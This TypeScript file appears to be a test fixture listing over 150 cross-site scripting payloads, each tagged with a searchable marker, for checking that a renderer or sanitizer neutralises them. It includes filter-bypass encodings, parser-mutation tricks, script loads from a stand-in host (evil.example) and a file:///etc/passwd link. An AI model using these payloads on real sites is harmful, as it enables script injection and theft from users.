/** Texts that have run scripts somewhere (RELIABILITY.md I4): elements with handlers, SVG, mutation, links, broken attributes, encodings. */

/** Ways to say it that filters have missed. */
const calls = [
  "alert(1)",
  "alert`1`",
  "confirm(1)",
  "prompt(1)",
  "top['al'+'ert'](1)",
  "(0,window['confirm'])(1)",
  "\\u0061lert(1)",
  "&#97;lert(1)",
  "&#x61;lert&lpar;1&rpar;",
  "setTimeout('prompt(1)')",
];
const call = (n: number) => calls[n % calls.length] ?? "";

/** What runs by itself as soon as it stands in a page. */
const elements = [
  "<script>@</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=@>",
  '<img src="x" onerror="@">',
  "<img/src=x/onerror=@>",
  "<IMG SRC=x OnErRoR=@>",
  "<img src=x onerror\n=@ //",
  "<svg onload=@>",
  "<svg/onload=@//",
  "<svg><script>@</script></svg>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<svg><set onbegin=@ attributeName=x>",
  "<svg><a xlink:href='javascript:@'><text y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>@</script>'></iframe></foreignObject></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>@</script></svg>#x'></svg>",
  "<body onload=@>",
  "<body onpageshow=@>",
  "<input onfocus=@ autofocus>",
  "<select onfocus=@ autofocus></select>",
  "<textarea onfocus=@ autofocus></textarea>",
  "<details open ontoggle=@>x</details>",
  "<video><source onerror=@></video>",
  "<video src=x onloadstart=@></video>",
  "<audio src=x onerror=@></audio>",
  "<marquee onstart=@>x</marquee>",
  "<iframe srcdoc='<script>parent.@</script>'></iframe>",
  "<iframe src='javascript:@'></iframe>",
  "<object data='javascript:@'></object>",
  "<embed src='javascript:@'>",
  "<style onload=@>x{}</style>",
  "<link rel=stylesheet href=//evil.example/x.css onload=@>",
  "<meta http-equiv=refresh content='0;url=javascript:@'>",
  "<base href='javascript:@//'>",
  "<form action='javascript:@'><button autofocus onfocus=@>x</button></form>",
  "<div style='animation-name:x' onanimationstart=@>x</div>",
  "<p contenteditable onfocus=@ autofocus>x</p>",
  "<dialog open onfocusin=@><button autofocus>x</button></dialog>",
  "<a href='javascript:@' autofocus onfocus=@>x</a>",
  "<math href='javascript:@'>x</math>",
  "<template><script>@</script></template><img src=x onerror=@>",
];

/** Out of whatever was open around it. */
const exits = [
  "</noscript>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  "</template>",
  "'>",
  '">',
  "`>",
  "</xmp>",
];

/** What a parser makes of these is not what it makes of what it made. */
const mutations = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=@&gt;'>",
  "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=@ src>'>",
  "<svg></p><style><a id='</style><img src=1 onerror=@>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
  "<noscript><p title='</noscript><img src=x onerror=@>'>",
  "<svg><style>&lt;img src=x onerror=@&gt;</style></svg>",
  "<table><tr><td><svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror=@&gt;</desc></svg>",
  "<xmp><p title='</xmp><svg/onload=@>'>",
  "<select><option><iframe></select><img src=x onerror=@>",
  "<listing>&lt;img src=x onerror=@&gt;</listing>",
  "<a id='\u2028' href=x>\u2029</a><img src=x onerror=@>",
  "<p>a</p ><x/onclick=@ id=x tabindex=1 autofocus onfocus=@>",
];

const broken = [
  '<a href="x" title="a>" onmouseover=@>x</a>',
  "<a\thref\t=\tx\tonfocus\t=\t@\tautofocus>x</a>",
  "<img src='x'onerror='@'>",
  "<img src=`x` onerror=`@`>",
  '<img src="x" alt="``onerror=@">',
  '" autofocus onfocus=@ x="',
  "' autofocus onfocus='@",
  "<img src=x onerror=@",
  "<<script>@//<</script>",
  "<scr<script>ipt>@</scr</script>ipt>",
  "<img src=x onerror=@ x=\u0000>",
  "<\u0000script>@</script>",
  "<svg\u000conload=@>",
  "{{constructor.constructor('@')()}}",
  "\u0024{@}",
  "javascript:@",
  "\u003cimg src=x onerror=@\u003e",
  "%3Cimg%20src=x%20onerror=@%3E",
  "&lt;img src=x onerror=@&gt;",
  "&#60;img src=x onerror=@&#62;",
  "+ADw-script+AD4-@+ADw-/script+AD4-",
  "\ufeff<script>@</script>",
  "\uff1cscript\uff1e@\uff1c/script\uff1e",
  "<ſcript>@</ſcript>",
];

const schemes = [
  "javascript:@",
  "JaVaScRiPt:@",
  " javascript:@",
  "java\tscript:@",
  "java&#10;script:@",
  "javascript&colon;@",
  "&#106;avascript:@",
  "\u0001javascript:@",
  "javascript://a.example/%0a@",
  "vbscript:@",
  "data:text/html,<script>@</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=@>",
  "blob:@",
  "file:///etc/passwd",
  "//evil.example/@",
  "view-source:javascript:@",
];
const links = [
  (to: string) => `[click](${to})`,
  (to: string) => `[click](<${to}>)`,
  (to: string) => `![click](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[click]: ${to}\n\n[click]`,
  (to: string) => `<a href="${to}">click</a>`,
];

const markdown = [
  "[a](https://a.example \"x' onmouseover=@ y='\")",
  '[a](https://a.example" onmouseover=@ x=")',
  '![a](https://a.example/x.png"onerror=@)',
  '<https://a.example/" onmouseover=@>',
  'https://a.example/"onmouseover="@',
  "```<script>@</script>\nx\n```",
  "`<img src=x onerror=@>`",
  "| <img src=x onerror=@> | b |\n| --- | --- |\n| [c](javascript:@) | d |",
  "[^1]\n\n[^1]: <img src=x onerror=@>",
  "# <svg onload=@>",
  "- [ ] <img src=x onerror=@>",
  "[<img src=x onerror=@>](https://a.example)",
  "[a](javascript:@ 'https://a.example')",
  "<!--\n<img src=x onerror=@>\n-->",
  "<div>\n\n[a](javascript:@)\n\n</div>",
];

const said = (text: string, n: number) => text.replaceAll("@", () => call(n));

/** Every one; more than RELIABILITY.md's 150. */
export const payloads: string[] = [
  ...elements,
  ...exits.flatMap((exit) => [`${exit}<script>@</script>`, `x="${exit}<img src=x onerror=@>`]),
  ...mutations,
  ...broken,
  ...schemes.flatMap((to, at) =>
    [links[at % links.length], links[(at + 1) % links.length]].flatMap((link) => link?.(to) ?? []),
  ),
  ...schemes
    .slice(0, 10)
    .flatMap((to, at) =>
      [links[(at + 2) % links.length], links[(at + 5) % links.length]].flatMap((link) => link?.(to) ?? []),
    ),
  ...markdown,
].map(said);

/** A word of its own for each, by which it is found on a screen and in a search. */
export const markOf = (n: number): string => `xss${String(n).padStart(4, "0")}`;
/** Which of them a text shows. */
export const marksIn = (text: string): number[] => [...text.matchAll(/xss(\d{4})/g)].map(([, n]) => Number(n));

/** A payload and its word in at most `most` characters, as the API takes them. */
export function fitted(n: number, most: number): string {
  const payload = (payloads[n] ?? "").replaceAll("\u0000", "");
  return `${payload.slice(0, most - 8).toWellFormed()} ${markOf(n)}`;
}
